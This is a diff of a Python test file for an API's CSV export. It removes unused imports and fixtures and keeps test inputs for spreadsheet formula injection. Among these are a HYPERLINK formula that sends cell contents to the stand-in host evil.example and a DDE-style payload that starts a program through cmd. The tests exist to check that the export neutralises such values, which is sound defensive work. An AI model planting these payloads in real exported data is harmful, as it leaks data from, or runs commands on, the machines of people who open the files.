@@ -8,30 +8,24 @@ from __future__ import annotations
 import csv
 import io
 import uuid
-from collections.abc import AsyncIterator, Iterator
 from typing import Any
 
 import asyncpg
-import pytest
 from litestar import Litestar
 from litestar.testing import AsyncTestClient
 
 from app.api.csv_export import neutralised
 from app.settings import Settings
-from tests.fake_openai import FakeConfig, FakeServer
 from tests.support import (
+    UNLIMITED,
     bearer,
     create_key,
     create_tenant,
     metering_done,
-    one_pool,
     plain_dsn,
-    routed_through,
 )
 
 Client = AsyncTestClient[Litestar]
-UNLIMITED = {"rpm_limit": 10**6, "tpm_limit": 10**9, "max_concurrency": 10**4,
-             "monthly_token_budget": 10**12}
 HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"Click for details")'
 # Through the chat API (the validation lets these through: no control characters).
 # The plain name is this run's own: the operator's export adds up every tenant's "ann".
@@ -39,19 +33,6 @@ PLAIN = f"ann-{uuid.uuid4().hex[:8]}"
 CHATTING = (HYPERLINK, "@SUM(1+1)*cmd|' /C calc'!A0", "+1+2", "-2+3", PLAIN)
 # Only an older process could have stored these (tab and CR are refused now).
 STORED_DIRECTLY = ("\t=1+2", "\r=1+2")
-
-
-@pytest.fixture(scope="module")
-def fake() -> Iterator[FakeServer]:
-    with FakeServer(FakeConfig(completion_tokens=4)) as server:
-        yield server
-
-
-@pytest.fixture(scope="module")
-async def routed(app: Litestar, client: Client, settings: Settings,
-                 fake: FakeServer) -> AsyncIterator[None]:
-    async with routed_through(app, client, one_pool(fake.base_url), settings):
-        yield
 
 
 async def insert_usage(settings: Settings, tenant_id: str, end_user: str,
